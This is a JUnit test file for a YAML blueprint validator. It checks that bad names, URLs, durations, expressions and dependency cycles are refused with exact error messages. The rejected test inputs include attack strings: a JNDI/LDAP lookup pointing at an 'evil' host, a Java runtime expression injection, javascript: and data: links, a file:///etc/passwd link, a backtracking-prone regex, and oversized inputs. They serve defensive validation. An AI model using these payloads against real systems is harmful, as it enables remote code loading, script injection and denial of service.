package io.headrace.blueprint;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static io.headrace.blueprint.Fixtures.component;
import static io.headrace.blueprint.Fixtures.problems;
import static org.assertj.core.api.Assertions.assertThat;

/** Values that are wrong in well-formed YAML. */
final class BadValuesTest {

    private static final String RUN = "apiVersion: headrace.io/v1\nkind: Run\nmetadata: {name: r}\n";
    private static final String C = component("{}") + "---\n";

    @ParameterizedTest
    @ValueSource(strings = {"no", "1e3", "0o17", "017", "12:30:00", ".nan", "2026-01-01", "on", "99999999999999999999"})
    void plainScalar_whereATextIsExpected_isThatText(String plain) {
        Compilation compilation = Fixtures.compiler()
                .compile(new InMemoryTree().with("f.yaml",
                        component("{inputs: [{name: title}]}") + "---\n" + RUN
                                + "spec: {component: c, cloud: local, inputs: {title: " + plain + "}}\n"));
        var input = Fixtures.run(compilation, "r").nodes().getFirst().software().inputs().getFirst();
        assertThat(input.value()).isEqualTo(new io.headrace.model.Template(plain));
    }

    @Test
    void blueprint_withABadName_hasItsOtherProblemsToldToo() {
        assertThat(problems("""
            apiVersion: headrace.io/v1
            kind: Application
            metadata: {name: My_App}
            spec: {nodes: {web: {component: c, replica: 2}, db: {component: c, replicas: lots}}}
            """))
                .satisfiesExactly(name -> assertThat(name.toString()).contains("'My_App' is not a name"),
                        key -> assertThat(key.toString()).contains("unknown key 'replica'"),
                        number -> assertThat(number.toString()).contains("lots"));
    }

    /** No expression of a repository is ever matched, so that none can be one that takes for ever. */
    @Test
    void input_withAPattern_isRefused() {
        assertThat(problems(component("{inputs: [{name: a, type: string, pattern: '(a+)+$'}]}")))
                .singleElement()
                .asString()
                .contains("unknown key 'pattern'");
    }

    /** Nor do our own expressions take long for any text that stands where they look. */
    @ParameterizedTest
    @ValueSource(strings = {"name: %s", "name: c, title: %s"})
    @Timeout(60)
    void texts_thatExpressionsMightChokeOn_areReadQuickly(String metadata) {
        for (String bait : List.of("a-", "1h", "a.b/", "$" + "{a", "::1", "https://a?", "0s")) {
            String text = bait.repeat(50_000) + "!";
            String document = "apiVersion: headrace.io/v1\nkind: Component\nmetadata: {" + metadata.formatted("'" + text
                    + "'") + "}\nspec: {inputs: [{name: b, default: '" + text + "'}], packages: ['" + text
                    + "'], network: {ingress: [{port: 80, from: '" + text + "'}]}, resources: {memory: '" + text
                    + "'}}\n---\n" + RUN + "spec: {component: '" + text + "', cloud: local, deadline: '" + text
                    + "'}\n";
            assertThat(problems(document)).isNotEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"no", "yes", "on", "y", "1", "'true'"})
    void word_whereABooleanIsExpected_isRefused(String word) {
        assertThat(problems(C + RUN + "spec: {component: c, cloud: local, protect: " + word + "}\n"))
                .containsExactly("f.yaml:9:45: 'protect' of Run 'r' must be true or false, not '"
                        + word.replace("'", "") + "'");
    }

    @ParameterizedTest
    @ValueSource(strings = {"1e3", "0o17", "017", "12:30:00", ".nan", "-1", "0", "2147483648", "99999999999999999999",
        "1.0", "'3'", "three"})
    void count_thatIsNoNumberInRange_isRefused(String count) {
        assertThat(problems(C + RUN + "spec: {component: c, cloud: local, nodes: {main: {replicas: " + count + "}}}\n"))
                .containsExactly("f.yaml:9:61: 'replicas' of node 'main' must be a whole number from 1 to 1000, not '"
                        + count.replace("'", "") + "'");
    }

    @ParameterizedTest
    @ValueSource(strings = {"0", "-1s", "999999999h", "PT", "PT1H", "0s", "1h 30m", "30", "1.5h"})
    void deadline_thatIsNoDurationInRange_isRefused(String deadline) {
        assertThat(problems(C + RUN + "spec: {component: c, cloud: local, deadline: " + deadline + "}\n"))
                .containsExactly("f.yaml:9:46: 'deadline' of Run 'r' must be a duration such as 90s, 30m or 1h30m"
                        + " from 1s to 30d, not '" + deadline + "'");
    }

    @ParameterizedTest
    @CsvSource({"a/b,'a/b'", "..,'..'", "-a,'-a'", "A,'A'", "a_b,'a_b'", "a.b,'a.b'", "<b>x</b>,'<b>x</b>'",
        "${jndi:ldap://x},'${jndi:ldap://x}'"})
    void name_thatIsNoLabel_isRefused(String name, String shown) {
        assertThat(
                problems("apiVersion: headrace.io/v1\nkind: Component\nmetadata: {name: \"" + name + "\"}\nspec: {}\n"))
                .containsExactly("f.yaml:3:18: '" + shown
                        + "' is not a name; names have up to 63 of a-z, 0-9 and -, and begin and end with a letter or digit");
    }

    @Test
    void name_of300Characters_isRefusedAndShownCut() {
        assertThat(problems("apiVersion: headrace.io/v1\nkind: Component\nmetadata: {name: " + "a".repeat(300)
                + "}\nspec: {}\n")).containsExactly("f.yaml:3:18: '" + "a".repeat(64)
                        + "...' is not a name; names have up to 63 of a-z, 0-9 and -, and begin and end with a letter or digit");
    }

    @ParameterizedTest
    @ValueSource(strings = {"javascript:alert(1)", "file:///etc/passwd", "https://", "x",
        "http://[::1", "data:text/html,x"})
    void link_thatIsNoWebAddress_isRefused(String url) {
        assertThat(problems(
                "apiVersion: headrace.io/v1\nkind: Cloud\nmetadata: {name: c}\nspec: {connector: local, agentUrl: '"
                        + url + "'}\n"))
                .containsExactly("f.yaml:4:36: 'agentUrl' of Cloud 'c' must be an http:// or https:// URL without user"
                        + " or password, not '" + url + "'");
    }

    @Test
    void linkWithAPassword_isRefusedAndNotRepeated() {
        assertThat(problems("""
            apiVersion: headrace.io/v1
            kind: Cloud
            metadata: {name: c}
            spec: {connector: local, endpoint: 'https://user:pass@x/'}
            """)).containsExactly(
                "f.yaml:4:36: 'endpoint' of Cloud 'c' must be an http:// or https:// URL without user or password");
    }

    @ParameterizedTest
    @ValueSource(strings = {"javascript:alert(1)", " JavaScript:x", "data:text/html,x", "vbscript:x"})
    void outputLink_thatRunsCode_isRefused(String url) {
        assertThat(problems(C + application("{nodes: {a: {component: c}}, outputs: {url: \"" + url + "\"}}")))
                .containsExactly("f.yaml:9:51: output 'url' is a link that would run code; use http or https");
    }

    @ParameterizedTest
    @ValueSource(strings = {"${jndi:ldap://evil/x}", "${a${b}}", "${T(java.lang.Runtime)}", "${}", "${a}", "${a.b.c}",
        "${ a.b }", "${a.b:-x}"})
    void expression_thatIsNoReference_isRefused(String expression) {
        assertThat(problems(C + application("{nodes: {a: {component: c}}, outputs: {x: \"" + expression + "\"}}")))
                .singleElement()
                .asString()
                .contains("' is not a reference; known: ${inputs.NAME}, ${NODE.OUTPUT} and ${NODE.*.OUTPUT};"
                        + " write $${ for the characters themselves");
    }

    @Test
    void expression_withoutEnd_isRefused() {
        assertThat(problems(C + application("{nodes: {a: {component: c}}, outputs: {x: \"${a.b\"}}"))).containsExactly(
                "f.yaml:9:49: a reference begins with ${ and has no }; write $${ for the characters themselves");
    }

    @Test
    void expression_openedAThousandTimes_costsNothing() {
        String text = "${".repeat(400_000);
        assertThat(problems(C + application("{nodes: {a: {component: c}}, outputs: {x: \"" + text + "\"}}")))
                .singleElement()
                .asString()
                .contains("a reference begins with ${ and has no }");
    }

    @Test
    void longText_inEveryPattern_costsNothing() {
        String aaa = "a".repeat(200_000) + "!";
        String yaml = component("{extends: " + aaa + ", inputs: [{name: " + aaa + "}], build: {packages: [" + aaa
                + "]}, network: {ingress: [{port: 1, from: " + aaa + "}]}}");
        assertThat(problems(yaml)).hasSize(4);
    }

    @Test
    void dependencyOnItself_isRefused() {
        assertThat(problems(C + application("{nodes: {a: {component: c, dependsOn: [a]}}}"))).containsExactly(
                "f.yaml:9:46: nodes cannot depend on themselves: a -> a; remove one dependsOn");
    }

    @Test
    void dependencyOfTwo_isRefused() {
        assertThat(problems(C + application(
                "{nodes: {a: {component: c, dependsOn: [b]}, b: {component: c, dependsOn: [a]}}}"))).containsExactly(
                        "f.yaml:9:81: nodes cannot depend on themselves: a -> b -> a; remove one dependsOn");
    }

    @Test
    void dependencyOf10000_isRefusedOnce() {
        String nodes = IntStream.range(0, 10_000)
                .mapToObj(i -> "n" + i + ": {component: c, dependsOn: [n" + (i + 1) % 10_000 + "]}")
                .collect(Collectors.joining(", "));
        assertThat(problems(C + application("{nodes: {" + nodes + "}}"))).singleElement()
                .asString()
                .endsWith("nodes cannot depend on themselves: n0 -> n1 -> n2 -> n3 -> n4 -> ... (10000 nodes) -> n0;"
                        + " remove one dependsOn");
    }

    @Test
    void dependencyOnAMissingNode_isRefused() {
        assertThat(problems(C + application("{nodes: {a: {component: c, dependsOn: [bb]}, b: {component: c}}}")))
                .containsExactly(
                        "f.yaml:9:46: node 'a' depends on unknown node 'bb'; did you mean 'b'? known: a, b");
    }

    @Test
    void extendsCycle_of2And10000_isRefusedOnce() {
        assertThat(
                problems(component("{extends: d}") + "---\n" + component("{extends: c}").replace("name: c", "name: d")))
                .containsExactly("f.yaml:4:17: a Component cannot extend itself: c extends d extends c");
        InMemoryTree tree = new InMemoryTree();
        for (int i = 0; i < 10_000; i++) {
            tree.with(String.format("%05d.yaml", i),
                    component("{extends: c" + (i + 1) % 10_000 + "}").replace("name: c", "name: c" + i));
        }
        assertThat(problems(tree)).containsExactly("00000.yaml:4:17: a Component cannot extend itself: c0 extends c1"
                + " extends c2 extends c3 extends c4 extends ... (10000 in all) extends c0");
    }

    @Test
    void problems_ofAHugeCommit_areCut() {
        InMemoryTree tree = new InMemoryTree();
        for (int i = 0; i < 2000; i++) {
            tree.with(i + ".yaml", component("{x: 1}").replace("name: c", "name: c" + i));
        }
        assertThat(problems(tree)).hasSize(1001).last().asString().contains("and 1000 more problems");
    }

    private static String application(String spec) {
        return "apiVersion: headrace.io/v1\nkind: Application\nmetadata: {name: app}\nspec: " + spec + "\n";
    }
}
